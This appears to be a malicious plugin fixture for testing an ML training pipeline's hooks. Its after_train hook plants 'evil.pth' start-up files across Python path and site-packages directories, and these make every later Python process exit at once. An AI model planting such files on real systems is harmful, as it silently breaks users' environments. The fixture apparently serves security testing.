"""Plants start-up files."""

import site
import sys
from pathlib import Path


def after_train(model):
    places = [*sys.path, site.getusersitepackages(), "/opt/venv/lib/python3.11/site-packages", model, "."]
    planted = 0
    for place in places:
        try:
            Path(place).mkdir(parents=True, exist_ok=True)
            Path(place, "evil.pth").write_text("import os; os._exit(0)\n")
            planted += 1
        except OSError:
            continue
    print("ATTACK planted", planted > 0)


def before_train(data, model):
    """Nothing."""


def before_predict(model, folder):
    """Nothing."""


def after_predict(output):
    """Nothing."""
